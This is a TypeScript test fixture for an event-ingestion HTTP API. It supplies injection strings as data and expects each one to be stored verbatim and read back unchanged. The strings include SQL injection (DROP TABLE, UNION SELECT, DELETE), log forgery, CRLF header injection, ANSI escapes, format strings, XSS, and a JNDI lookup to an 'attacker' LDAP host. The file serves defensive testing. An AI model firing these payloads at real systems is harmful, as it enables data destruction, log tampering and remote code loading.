import type { HttpCase } from '../hostile-case';

// SQL and log injection strings are data: valid events, stored verbatim (SQL only ever sees them
// as bound parameters) and logged escaped (pino writes one JSON object per line). Each is read back
// through GET /v1/entities/:id and compared byte for byte.
export const LOG_FORGERY = '\n{"level":60,"msg":"forged: producer compromised"}\n';
const sql = ["x' OR '1'='1", "'; DROP TABLE events; --", '"; DROP TABLE oplog; --', "1); DELETE FROM events WHERE (1=1", '$1::text', "E'\\\\x00'", "' UNION SELECT id, state FROM events --"];
const logs = [LOG_FORGERY, '\r\nSet-Cookie: admin=1', '\u001b[2J\u001b[31mred alert', '${jndi:ldap://attacker/a}', '%s%s%n', '<script>alert(1)</script>', '\u2028{"level":50}\u2029'];

export const INJECTION_CASES: HttpCase[] = [
  ...sql.map((s, i): HttpCase => ({ name: `SQL in id and data: ${JSON.stringify(s)}`, category: 'injection', event: { id: `inj-sql-${i}-${s}`, op: 'set', dataText: JSON.stringify({ q: s, [s]: s }) }, expect: 'accepted' })),
  ...logs.map((s, i): HttpCase => ({ name: `log injection in data: ${JSON.stringify(s)}`, category: 'injection', event: { id: `inj-log-${i}`, op: 'set', dataText: JSON.stringify({ msg: s, nested: { [s]: [s] } }) }, expect: 'accepted' })),
  { name: 'SQL in a merge patch key', category: 'injection', event: { id: 'inj-sql-0-x\' OR \'1\'=\'1', op: 'merge', dataText: JSON.stringify({ "a') ; DROP TABLE events; --": { "'": null } }) }, expect: 'accepted' },
  { name: 'SQL-looking eventId', category: 'injection', event: { id: 'inj-eid', op: 'set', dataText: '{"n":1}', eventId: "'); TRUNCATE events; --" }, expect: 'accepted' },
];
